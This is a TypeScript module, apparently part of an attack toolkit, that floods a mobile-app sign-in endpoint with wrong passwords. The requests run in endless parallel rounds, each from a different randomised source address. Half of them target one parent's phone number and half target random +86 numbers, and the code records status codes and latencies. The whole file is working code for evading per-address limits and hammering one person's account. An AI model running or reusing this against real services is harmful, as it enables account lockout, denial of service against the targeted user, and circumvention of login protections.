import { randomInt } from 'node:crypto';
import { jsonRequest, openConnection, randomAddress, StatusCounts, statusOf, type AttackTarget } from './raw-client.js';

const SIGN_IN_PATH = '/apis/v2/userctx/user/account/sign-in';
const RETRY_DELAY_MS = 100;

/**
 * Sends wrong passwords in parallel, each from another address: half of them for the phone number of a parent, the
 * others for random phone numbers, whose limits are never reached. The next passwords are sent when all responses have
 * arrived.
 */
export class WrongPasswords {
  readonly statuses = new StatusCounts();
  readonly latencies: number[] = [];

  constructor(
    private readonly target: AttackTarget,
    private readonly phoneNumber: string,
  ) {}

  async run(concurrentSignIns: number): Promise<never> {
    for (;;) {
      await Promise.all(Array.from({ length: concurrentSignIns }, (_, index) => this.tryPassword(index % 2 === 0)));
    }
  }

  private async tryPassword(isForParent: boolean): Promise<void> {
    const phoneNumber = isForParent ? this.phoneNumber : `138${String(randomInt(10 ** 8)).padStart(8, '0')}`;
    const sentAt = performance.now();
    const status = await this.send({ areaCode: '+86', phoneNumber, password: `wrong-password-${randomInt(10 ** 6)}` });
    this.statuses.add(status);
    this.latencies.push(performance.now() - sentAt);
  }

  private send(body: object): Promise<number | string> {
    return new Promise((resolve) => {
      const socket = openConnection(this.target, randomAddress());
      socket.write(jsonRequest(SIGN_IN_PATH, body));
      socket.once('data', (bytes: Buffer) => {
        resolve(statusOf(bytes) ?? 'malformed response');
        socket.destroy();
      });
      socket.once('close', () => setTimeout(resolve, RETRY_DELAY_MS, 'connection closed'));
    });
  }
}
